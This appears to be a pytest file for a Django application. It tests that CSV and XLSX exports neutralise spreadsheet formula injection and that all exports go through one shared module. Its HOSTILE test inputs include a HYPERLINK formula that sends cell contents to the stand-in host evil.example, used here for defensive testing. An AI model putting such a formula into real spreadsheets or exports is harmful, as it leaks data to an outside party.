"""Every CSV and XLSX export is safe to open in a spreadsheet: text that could start a formula
lands neutralised (OWASP, CSV injection), numbers stay numbers, and no module writes CSV or XLSX
without core/exports.py."""

import csv
import io
import os
import re
from datetime import datetime
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import Role
from audit.actions import record_event
from core.exports import FORMULA_PREFIXES, Workbook, csv_writer, safe_cell
from monitor import facts, stats
from monitor.models import ImportBatch
from regions.models import Municipality

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1", "-2+3", "@SUM(A1:A9)"]
HOSTILE_MORE = ["\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", [*HOSTILE, *HOSTILE_MORE])
def test_text_that_could_start_a_formula_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", [-2, 3, 1.5, 0, None, True, "Utrecht", "a=b", "'=al", "", "Súdwest-Fryslân"]
)
def test_other_values_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writers_use_it():
    stream = io.StringIO()
    csv_writer(stream, delimiter=";").writerow(["=1+1", -2, "x"])
    assert stream.getvalue() == "'=1+1;-2;x\r\n"
    book = Workbook()
    sheet = book.sheet("blad")
    sheet.append(["=1+1", -2], bold=True)
    cells = next(load_workbook(io.BytesIO(book.content()))["blad"].iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [("'=1+1", "s"), (-2, "n")]


@pytest.fixture(autouse=True)
def municipality_names(monkeypatch):
    # monitor.stats keeps the names per process; the tests rename one, and restore the cache.
    monkeypatch.setattr(stats, "_MUNICIPALITIES", None)


def rename_municipality(value):
    municipality = Municipality.objects.get(code="GM0344")  # Utrecht, in the RIEC region
    Municipality.objects.filter(pk=municipality.pk).update(name=value)
    return municipality


def audit_log_csv(client, login, personas, value):
    record_event(
        "monitor.exported",
        actor=None,
        object_type=value,
        object_id=value,
        reason=value,
        details={"note": value},
    )
    login(client, personas[Role.PRIVACY_OFFICER])
    response = client.get(reverse("privacy:export_audit_log"))
    return response, read_csv(response, ",")


def monitor_rows(client, login, personas, value, extension):
    from monitor.tests.test_monitor import make_report

    municipality = rename_municipality(value)
    tz = timezone.get_current_timezone()
    for number in range(6):
        make_report(
            number + 1, datetime(2025, 3, 1 + number, 12, tzinfo=tz), municipality=municipality
        )
    facts.rebuild()
    login(client, personas[Role.REPORTING_POINT_STAFF])
    name = "municipality" if extension == "csv" else "alles"
    response = client.get(f"/monitor/export/{name}.{extension}?period=year&year=2025")
    if extension == "csv":
        return response, read_csv(response, ";")
    book = load_workbook(io.BytesIO(response.content))
    rows = [[cell.value for cell in row] for sheet in book.worksheets for row in sheet.iter_rows()]
    formulas = [
        c
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert not formulas
    assert ["'" + value, 6, 0] in rows  # the count stays a number
    return response, rows


def monitor_csv(client, login, personas, value):
    return monitor_rows(client, login, personas, value, "csv")


def monitor_xlsx(client, login, personas, value):
    return monitor_rows(client, login, personas, value, "xlsx")


def policy_csv(client, login, personas, value):
    rename_municipality(value)
    login(client, personas[Role.ANALYST])
    response = client.get(reverse("monitor:policy_export"))
    return response, read_csv(response, ";")


def import_errors_csv(client, login, personas, value):
    batch = ImportBatch.objects.create(
        format=ImportBatch.Format.RECORDS,
        file_name="import.csv",
        content=b"",
        uploaded_at=timezone.now(),
        uploaded_by=personas[Role.REPORTING_POINT_STAFF],
        state=ImportBatch.State.FAILED,
        errors=[{"row": 2, "column": value, "message": value}],
    )
    login(client, personas[Role.REPORTING_POINT_STAFF])
    response = client.get(reverse("monitor:import_errors", args=[batch.pk]))
    return response, read_csv(response, ";")


def read_csv(response, delimiter):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))


# Every export the product writes; a new one belongs here (test_no_module_writes_exports_itself
# finds writers that do not use core/exports.py).
EXPORTS = [audit_log_csv, monitor_csv, monitor_xlsx, policy_csv, import_errors_csv]


@pytest.mark.parametrize("export", EXPORTS, ids=lambda export: export.__name__)
@pytest.mark.parametrize("value", HOSTILE, ids=["hyperlink", "plus", "minus", "at"])
def test_every_export_neutralises_formulas(client, login, personas, export, value):
    response, rows = export(client, login, personas, value)
    assert response.status_code == 200
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert "'" + value in cells  # the value arrived, neutralised
    assert value not in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]


WRITERS = re.compile(
    r"\bcsv\.(writer|DictWriter)\(|(?<!exports\.)\bWorkbook\(|\bopenpyxl\.Workbook\b"
    r"|from openpyxl import .*\bWorkbook\b|\bxlsxwriter\b"
)


def test_no_module_writes_exports_itself():
    """CSV and XLSX are written only through core/exports.py (reading them is fine)."""
    root = Path(settings.BASE_DIR)
    skipped = {".venv", "var", "staticfiles", "node_modules", "tests", "migrations", ".git"}
    found = []
    for folder, folders, files in os.walk(root):
        folders[:] = [name for name in folders if name not in skipped]
        for name in files:
            path = Path(folder) / name
            relative = path.relative_to(root)
            if not name.endswith(".py") or relative == Path("core/exports.py"):
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if WRITERS.search(line.split("#", 1)[0]):
                    found.append(f"{relative}:{number}: {line.strip()}")
    assert not found, "write CSV/XLSX through core.exports:\n" + "\n".join(found)


def test_the_check_finds_a_writer():
    assert WRITERS.search("    writer = csv.writer(response)")
    assert WRITERS.search("    from openpyxl import Workbook")
    assert WRITERS.search("    book = openpyxl.Workbook()")
    assert not WRITERS.search("    reader = csv.reader(stream)")
    assert not WRITERS.search("    book = exports.Workbook()")
    assert not WRITERS.search("    book = openpyxl.load_workbook(path, read_only=True)")
